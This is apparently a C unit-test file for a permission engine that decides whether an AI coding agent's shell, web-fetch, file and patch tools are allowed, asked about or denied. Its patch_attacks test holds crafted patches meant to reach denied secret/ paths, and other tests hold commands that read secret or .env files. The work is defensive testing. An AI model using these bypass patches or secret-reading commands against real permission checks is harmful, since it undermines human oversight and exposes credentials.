	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://serde.docs.rs/"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://docs.rs/"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_YOLO, "web_fetch", TOOL_HIGH_IMPACT, "url",
	    "https://evil.example.com/"), PERM_VERDICT_DENY);
	T_EQ_INT(check(r, PERM_ASK, "WebFetch", TOOL_HIGH_IMPACT, "url", "http://[::1]:80/"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "WebFetch(example.com)", &err), -1);
	T_CONTAINS(buf_cstr(&err), "domain:NAME");
	in = cJSON_CreateObject();
	cJSON_AddStringToObject(in, "url", "https://Docs.Example.org:8443/x?y");
	rule = perm_rule_for("web_fetch", in);
	T_EQ_STR(rule, "WebFetch(domain:docs.example.org)");
	free(rule);
	cJSON_Delete(in);
	perm_rules_free(r);
	buf_release(&err);
}

T_TEST(explain)
{
	const char *allow[] = { "run_bash(cd *)", "run_bash(git status)", "Edit(src/**)", NULL };
	const char *ask[] = { "Bash(git push *)", "write_file(src/gen/**)", NULL };
	struct perm_rules *r = rules_of(allow, ask, NULL), *none = rules_of(NULL, NULL, NULL);
	struct perm_rules *merged;
	struct buf reason = BUF_INIT(BUF_NOLIMIT), err = BUF_INIT(BUF_NOLIMIT);
	char *rules;

	/* The part that no allow rule covers, and exactly that part to allow. */
	rules = explain(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "cd build && make test", &reason);
	T_EQ_STR(buf_cstr(&reason), "the part `make test` matches no allow rule");
	T_EQ_STR(rules, "run_bash(make test)");
	/* That rule, with the allow rules, allows the whole command; alone it does not. */
	merged = perm_rules_new();
	T_EQ_INT(perm_rules_add(merged, PERM_LIST_ALLOW, rules, &err), 0);
	T_EQ_INT(bash(merged, PERM_ASK, "cd build && make test"), PERM_VERDICT_ASK);
	perm_rules_merge_list(merged, r, PERM_LIST_ALLOW);
	perm_rules_merge_list(merged, r, (enum perm_list)9);
	T_EQ_INT(perm_rules_count(merged, PERM_LIST_ASK), 0);
	T_EQ_INT(bash(merged, PERM_ASK, "cd build && make test"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(merged, PERM_ASK, "cd build && make install"), PERM_VERDICT_ASK);
	perm_rules_free(merged);
	free(rules);
	rules = explain(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "git status; make; rm -f x", &reason);
	T_EQ_STR(buf_cstr(&reason), "the parts `make` and `rm -f x` match no allow rule");
	T_EQ_STR(rules, "run_bash(make) | run_bash(rm -f x)");
	free(rules);
	rules = explain(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "a; b; c; d; git status", &reason);
	T_EQ_STR(buf_cstr(&reason), "the parts `a`, `b` and 2 more match no allow rule");
	free(rules);
	/* An ask rule. */
	rules = explain(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "cd x && git push origin", &reason);
	T_EQ_STR(buf_cstr(&reason), "rule Bash(git push *) asks for approval");
	T_EQ_STR(rules, "run_bash(cd x && git push origin)");
	free(rules);
	rules = explain(r, PERM_ACCEPT_EDITS, "write_file", TOOL_WRITE, "path", "src/gen/a.c",
	    &reason);
	T_EQ_STR(buf_cstr(&reason), "rule write_file(src/gen/**) asks for approval");
	T_EQ_STR(rules, "write_file(src/gen/a.c)");
	free(rules);
	/* The mode, when no allow rule could have applied. */
	rules = explain(none, PERM_ASK, "edit_file", TOOL_WRITE, "path", "a.c", &reason);
	T_EQ_STR(buf_cstr(&reason), "mode ask: every edit asks");
	T_EQ_STR(rules, "edit_file(/a.c)");
	free(rules);
	rules = explain(none, PERM_ACCEPT_EDITS, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "make test && make install", &reason);
	T_EQ_STR(buf_cstr(&reason), "mode accept-edits: every command asks");
	T_EQ_STR(rules, "run_bash(make test) | run_bash(make install)");
	free(rules);
	/* A file outside the allow rules' reach. */
	rules = explain(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "docs/x.md", &reason);
	T_EQ_STR(buf_cstr(&reason), "`docs/x.md` matches no allow rule");
	T_EQ_STR(rules, "write_file(docs/x.md)");
	free(rules);
	/* A long part is remembered by its first two words. */
	rules = explain(none, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, "command",
	    "npm run build -- --mode production --config webpack.config.js --progress --profile",
	    &reason);
	T_EQ_STR(rules, "run_bash(npm run *)");
	free(rules);
	/* A tool no rule can name. */
	rules = explain(none, PERM_ASK, "mcp_thing", TOOL_HIGH_IMPACT, "x", "y", &reason);
	T_EQ_STR(buf_cstr(&reason), "mode ask: every call of mcp_thing asks");
	T_EQ_STR(rules, "mcp_thing");
	free(rules);
	perm_strv_free(NULL);
	perm_rules_free(r);
	perm_rules_free(none);
	buf_release(&reason);
	buf_release(&err);
}

/* The patch attacks: the check sees exactly the files apply_patch writes. */
T_TEST(patch_attacks)
{
	const char *deny[] = { "apply_patch(secret/**)", NULL };
	const char *allow[] = { "apply_patch(src/**)", NULL };
	struct perm_rules *d = rules_of(NULL, NULL, deny), *a = rules_of(allow, NULL, NULL);

	/* a git-quoted name with an octal escape */
	T_EQ_INT(patch(d, PERM_YOLO, "--- \"a/secr\\145t/key\"\n+++ \"b/secr\\145t/key\"\n"
	    "@@ -1 +1 @@\n-a\n+b\n"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(d, PERM_YOLO, "diff --git \"a/secr\\145t/key\" \"b/secr\\145t/key\"\n"
	    "new file mode 100644\n"), PERM_VERDICT_DENY);
	/* a header-only new file */
	T_EQ_INT(patch(d, PERM_YOLO, "diff --git a/secret/x b/secret/x\nnew file mode 100644\n"),
	    PERM_VERDICT_DENY);
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/secret/x b/secret/x\nnew file mode 100755\n"),
	    PERM_VERDICT_ASK);
	/* a hunk whose count would hide the next header: not a patch at all */
	T_EQ_INT(check(d, PERM_YOLO, "apply_patch", TOOL_WRITE, "patch",
	    "--- a/ok.txt\n+++ b/ok.txt\n@@ -1,1 +1,50 @@\n-x\n+y\n--- a/secret/x\n+++ b/secret/x\n"
	    "@@ -1 +1 @@\n-a\n+b\n"), PERM_VERDICT_DENY);
	T_CONTAINS(buf_cstr(&why), "cannot be read");
	T_EQ_INT(patch(a, PERM_ASK, "--- a/src/a.c\n+++ b/src/a.c\n@@ -1,1 +1,50 @@\n-x\n+y\n"
	    "--- a/secret/x\n+++ b/secret/x\n@@ -1 +1 @@\n-a\n+b\n"), PERM_VERDICT_DENY);
	/* both ends of a rename, and a Codex Move to */
	T_EQ_INT(patch(d, PERM_YOLO, "diff --git a/src/a b/secret/a\nrename from src/a\n"
	    "rename to secret/a\n"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(d, PERM_YOLO, "diff --git a/secret/a b/src/a\nrename from secret/a\n"
	    "rename to src/a\n"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/src/a b/lib/a\nrename from src/a\n"
	    "rename to lib/a\n"), PERM_VERDICT_ASK);
	T_EQ_INT(patch(d, PERM_YOLO, "*** Begin Patch\n*** Update File: src/a\n"
	    "*** Move to: secret/a\n@@\n-x\n+y\n*** End Patch\n"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(a, PERM_ASK, "*** Begin Patch\n*** Update File: src/a\n"
	    "*** Move to: src/b\n@@\n-x\n+y\n*** End Patch\n"), PERM_VERDICT_ALLOW);
	/* a copy reads its source: the source is a name the check sees */
	T_EQ_INT(patch(d, PERM_YOLO, "diff --git a/secret/k b/src/k\ncopy from secret/k\n"
	    "copy to src/k\n"), PERM_VERDICT_DENY);
	/* ...and Read rules cover it, while its destination follows the edit rules */
	{
		const char *rd[] = { "Read(secret/**)", NULL };
		struct perm_rules *rr = rules_of(NULL, NULL, rd);

		T_EQ_INT(patch(rr, PERM_YOLO, "diff --git a/secret/k b/src/k\ncopy from secret/k\n"
		    "copy to src/k\n"), PERM_VERDICT_DENY);
		T_CONTAINS(buf_cstr(&why), "Read(secret/**)");
		T_EQ_INT(patch(rr, PERM_YOLO, "diff --git a/lib/k b/src/k\ncopy from lib/k\n"
		    "copy to src/k\n"), PERM_VERDICT_ALLOW);
		/* a Read rule never stops a patch that only writes there */
		T_EQ_INT(patch(rr, PERM_YOLO, "--- a/secret/f\n+++ b/secret/f\n@@ -1 +1 @@\n-a\n+b\n"),
		    PERM_VERDICT_ALLOW);
		perm_rules_free(rr);
	}
	/* a copy's source needs no allow rule: reads are allowed; its destination does */
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/lib/k b/src/k\ncopy from lib/k\ncopy to src/k\n"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/src/k b/lib/k\ncopy from src/k\ncopy to lib/k\n"),
	    PERM_VERDICT_ASK);
	/* "--- f.orig" / "+++ f": both names are checked */
	T_EQ_INT(patch(d, PERM_YOLO, "--- secret/f\n+++ src/f\n@@ -1 +1 @@\n-a\n+b\n"),
	    PERM_VERDICT_DENY);
	/* names the diff --git line and the ---/+++ lines disagree on */
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/src/a b/src/a\n--- a/secret/a\n+++ b/secret/a\n"
	    "@@ -1 +1 @@\n-a\n+b\n"), PERM_VERDICT_DENY);
	/* binary patches are refused before rules */
	T_EQ_INT(patch(a, PERM_ASK, "diff --git a/src/b b/src/b\nGIT binary patch\nliteral 0\n"),
	    PERM_VERDICT_DENY);
	perm_rules_free(d);
	perm_rules_free(a);
}

/* perm_path_denied asks the rules as read_file or edit_file would. */
T_TEST(path_denied_for_the_tools)
{
	struct perm_rules *r = perm_rules_new();
	struct buf err = BUF_INIT(1024);

	perm_rules_set_root(r, "/ws");
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "read_file(.env)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "edit_file(secret/**)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "read_file(src/**)", &err), 0);
	T_OK(perm_path_denied(r, SANDBOX_READ, ".env"));
	T_OK(perm_path_denied(r, SANDBOX_READ, "sub/.env"));
	T_OK(!perm_path_denied(r, SANDBOX_READ, "env.txt"));
	T_OK(!perm_path_denied(r, SANDBOX_EDIT, ".env"));
	T_OK(perm_path_denied(r, SANDBOX_EDIT, "secret/k"));
	T_OK(perm_path_denied(r, SANDBOX_EDIT, "/ws/secret/k"));
	T_OK(!perm_path_denied(r, SANDBOX_READ, "secret/k"));
	/* allow and ask rules never deny */
	T_OK(!perm_path_denied(r, SANDBOX_READ, "src/a.c"));
	T_OK(!perm_path_denied(r, SANDBOX_EDIT, "src/a.c"));
	perm_rules_free(r);
	buf_release(&err);
}

/*
 * The remembered rule denies its own call: for a fixed-seed set of
 * generated commands (non-ASCII bytes, redirects, backticks, $(...),
 * here-documents, quotes, backslashes, long and short), the rule an
 * "always" answer remembers (perm_rule_for, perm_explain) and the rules a
 * "never" answer adds (perm_never_rules) deny the call they were made from.
 */
static const char *const gen_atoms[] = {
	"echo", "rm", "git", "ls", "-rf", "x", "a.txt", "\xc3\xa9", "\xe2\x82\xac\xe2\x82\xac",
	"\xff", "\x80\xa0", "f\xc3\xb6o", "*", "\\*", "\\", "a\\ b", "'q t'", "\"d q\"", "\"$x\"",
	"$HOME", ":*", "(", ")", "#c", "~", "a=b", "FOO=1", "{a,b}", "\xc2\xa0",
};
static const char *const gen_joins[] = {
	" ", " ", " ", "  ", "\t", " > ", ">", " >> ", " 2>&1 ", " < ", " &> ", "; ", " && ", " | ",
	"\n", " & ", " || ",
};

static unsigned long gen_state;

static unsigned
gen_next(unsigned n)
{
	gen_state = gen_state * 6364136223846793005UL + 1442695040888963407UL;
	return (unsigned)((gen_state >> 33) % n);
}

static void gen_command(struct buf *out, int depth);

static void
gen_word(struct buf *out, int depth)
{
	unsigned k = gen_next(12);

	if (depth < 2 && k == 0) {
		buf_putc(out, '`');
		gen_command(out, depth + 1);
		buf_putc(out, '`');
	} else if (depth < 2 && k == 1) {
		buf_puts(out, "$(");
		gen_command(out, depth + 1);
		buf_putc(out, ')');
	} else if (k == 2) {
		buf_puts(out, "\"`");
		buf_puts(out, gen_atoms[gen_next(sizeof gen_atoms / sizeof gen_atoms[0])]);
		buf_puts(out, "`\"");
	} else
		buf_puts(out, gen_atoms[gen_next(sizeof gen_atoms / sizeof gen_atoms[0])]);
}

static void
gen_command(struct buf *out, int depth)
{
	unsigned i, n = 1 + gen_next(depth > 0 ? 3 : 12);

	for (i = 0; i < n; i++) {
		if (i > 0)
			buf_puts(out, depth > 0 && gen_next(2) ? " " :
			    gen_joins[gen_next(sizeof gen_joins / sizeof gen_joins[0])]);
		gen_word(out, depth);
	}
	if (depth == 0 && gen_next(8) == 0)
		buf_printf(out, " <<%s\nbody `x` \xc3\xa9 > y\nEOF\n%s", gen_next(2) ? "EOF" : "'EOF'",
		    gen_next(2) ? "echo after" : "");
}

/* Do rules, as the session's deny rules, deny command? */
static bool
gen_denies(char **rules, const char *command)
{
	struct perm_rules *r = perm_rules_new();
	struct buf err = BUF_INIT(BUF_NOLIMIT);
	enum perm_verdict v;
	size_t i;

	for (i = 0; rules[i] != NULL; i++)
		if (perm_rules_add(r, PERM_LIST_DENY, rules[i], &err) == -1)
			T_FAIL("rule %s: %s", rules[i], buf_cstr(&err));
	v = bash(r, PERM_YOLO, command);
	perm_rules_free(r);
	buf_release(&err);
	return v == PERM_VERDICT_DENY;
}

T_TEST(remembered_rules_deny_their_call)
{
	struct buf cmd = BUF_INIT(BUF_NOLIMIT);
	struct perm_rules *none = perm_rules_new(), *some;
	const char *allow[] = { "run_bash(echo *)", "run_bash(ls *)", NULL };
	cJSON *in;
	char *rule, **never, **always;
	size_t i, j, k, failed = 0, made = 0, whole = 0;

	some = rules_of(allow, NULL, NULL);
	gen_state = 26;
	for (i = 0; i < 6000 && failed < 5; i++) {
		buf_reset(&cmd);
		gen_command(&cmd, 0);
		in = cJSON_CreateObject();
		cJSON_AddStringToObject(in, "command", buf_cstr(&cmd));
		rule = perm_rule_for("run_bash", in);
		if (rule != NULL) {
			char *one[] = { rule, NULL };

			made++;
			if (!gen_denies(one, buf_cstr(&cmd))) {
				T_FAIL("always rule %s does not deny [%s]", rule, buf_cstr(&cmd));
				failed++;
			}
		}
		free(rule);
		for (k = 0; k < 2; k++) {
			always = perm_explain(k == 0 ? none : some, PERM_ASK, "run_bash",
			    TOOL_HIGH_IMPACT, in, &why);
			for (j = 0; always[j] != NULL; j++) {
				char *one[] = { always[j], NULL };

				if (strcmp(always[j], "run_bash") == 0)
					whole++;

				if (!gen_denies(one, buf_cstr(&cmd))) {
					T_FAIL("always rule %s does not deny [%s]", always[j],
					    buf_cstr(&cmd));
					failed++;
				}
			}
			perm_strv_free(always);
			never = perm_never_rules(k == 0 ? none : some, PERM_ASK, "run_bash",
			    TOOL_HIGH_IMPACT, in);
			if (never[0] == NULL || !gen_denies(never, buf_cstr(&cmd))) {
				T_FAIL("never rule %s does not deny [%s]", never[0] != NULL ?
				    never[0] : "(none)", buf_cstr(&cmd));
				failed++;
			}
			if (strcmp(never[0], "run_bash") == 0)
				whole++;
			perm_strv_free(never);
		}
		cJSON_Delete(in);
	}
	T_OK(made > 4500);
	/* A file named from above the root is remembered by its absolute path, not as the tool. */
	perm_rules_set_root(none, "/tmp");
	in = cJSON_CreateObject();
	cJSON_AddStringToObject(in, "path", "../elsewhere/x.c");
	always = perm_explain(none, PERM_ASK, "edit_file", TOOL_WRITE, in, &why);
	T_OK(always[0] != NULL && strcmp(always[0], "edit_file(//elsewhere/x.c)") == 0);
	perm_strv_free(always);
	cJSON_Delete(in);
	/* The whole tool is never what "always" remembers, and "never" only as a last resort. */
	T_OK(whole == 0);
	perm_rules_free(none);
	perm_rules_free(some);
	buf_release(&cmd);
}

/* Does the command read, touch or reach what deny (with the root at a folder that is not there)? */
static bool
touches(const char *deny, const char *command)
{
	const char *rules[] = { deny, NULL };
	struct perm_rules *r = rules_of(NULL, NULL, rules);
	cJSON *in = cJSON_CreateObject();
	bool hit;

	perm_rules_set_root(r, "/nonexistent-tandem-root/ws");
	cJSON_AddStringToObject(in, "command", command);
	buf_reset(&why);
	hit = perm_command_touches_denied(r, in, &why);
	cJSON_Delete(in);
	perm_rules_free(r);
	return hit;
}

T_TEST(tree_readers_reach_read_rules)
{
	T_OK(touches("Read(secret/**)", "grep -r KEY ."));
	T_OK(strstr(buf_cstr(&why), "reads everything below the folder ., where a deny rule "
	    "such as Read(secret/**) may cover files") != NULL);
	T_OK(touches("Read(secret/**)", "rg KEY"));
	T_OK(touches("Read(secret/**)", "tar czf x.tgz ./"));
	T_OK(touches("Read(secret/**)", "cd src && grep -r KEY .."));
	T_OK(touches("Read(secret/**)", "grep -r KEY /"));
	T_OK(!touches("Read(secret/**)", "grep -r KEY src"));
	T_OK(!touches("Read(secret/**)", "rg KEY src/secret"));
	T_OK(!touches("Read(secret/**)", "grep -r KEY /usr"));
	T_OK(!touches("Read(secret/**)", "grep KEY ."));
	T_OK(!touches("Read(secret/**)", "cp -r src secret-copy"));
	/* an Edit rule says nothing about reading */
	T_OK(!touches("Edit(secret/**)", "grep -r KEY ."));
	/* a name at any depth is in every folder of the workspace */
	T_OK(touches("Read(**/.env)", "grep -r KEY src"));
	T_OK(touches("Read(*.key)", "zip -r x.zip lib"));
	T_OK(!touches("Read(**/.env)", "grep -r KEY /usr"));
	/* a pattern is followed name by name */
	T_OK(touches("Read(src/*/key)", "grep -r KEY src"));
	T_OK(touches("Read(src/*/key)", "grep -r KEY src/a"));
	T_OK(!touches("Read(src/*/key)", "grep -r KEY lib"));
	T_OK(!touches("Read(src/*/key)", "grep -r KEY src/a/b"));
	/* wildcards the program matches itself: below the folder before them */
	T_OK(touches("Read(secret/**)", "git grep KEY -- '*'"));
	T_OK(touches("Read(secret/**)", "git grep KEY -- ':(exclude)src'"));
	T_OK(touches("Read(secret/**)", "zip -r x.zip 'secret*'"));
	T_OK(!touches("Read(secret/**)", "git grep KEY -- 'src/*.c'"));
	T_OK(touches("Read(//etc/ssl/**)", "grep -r KEY /etc"));
	T_OK(!touches("Read(//etc/ssl/**)", "grep -r KEY /usr"));
	T_OK(!touches("Read(//etc/ssl/**)", "grep -r KEY ."));
}

int
main(void)
{
	T_RUN(rule_syntax);
	T_RUN(aliases);
	T_RUN(mode_names);
	T_RUN(bash_globs);
	T_RUN(bash_compound);
	T_RUN(bash_exact_whole);
	T_RUN(bash_redirects);
	T_RUN(bash_heredocs);
	T_RUN(bash_deny_everywhere);
	T_RUN(deny_wins_in_every_mode);
	T_RUN(plan_mode);
	T_RUN(plan_mode_web);
	T_RUN(ask_rules);
	T_RUN(mode_defaults);
	T_RUN(path_globs);
	T_RUN(path_globs_are_not_exponential);
	T_RUN(paths_against_root);
	T_RUN(apply_patch_files);
	T_RUN(rule_for);
	T_RUN(rules_copy_and_merge);
	T_RUN(hostile_commands);
	T_RUN(claude_code_meanings);
	T_RUN(web_domains);
	T_RUN(shell_tools);
	T_RUN(path_anchors);
	T_RUN(meaning_changes);
	T_RUN(explain);
	T_RUN(patch_attacks);
	T_RUN(path_denied_for_the_tools);
	T_RUN(remembered_rules_deny_their_call);
	T_RUN(tree_readers_reach_read_rules);
	buf_release(&why);
	return t_done();
}
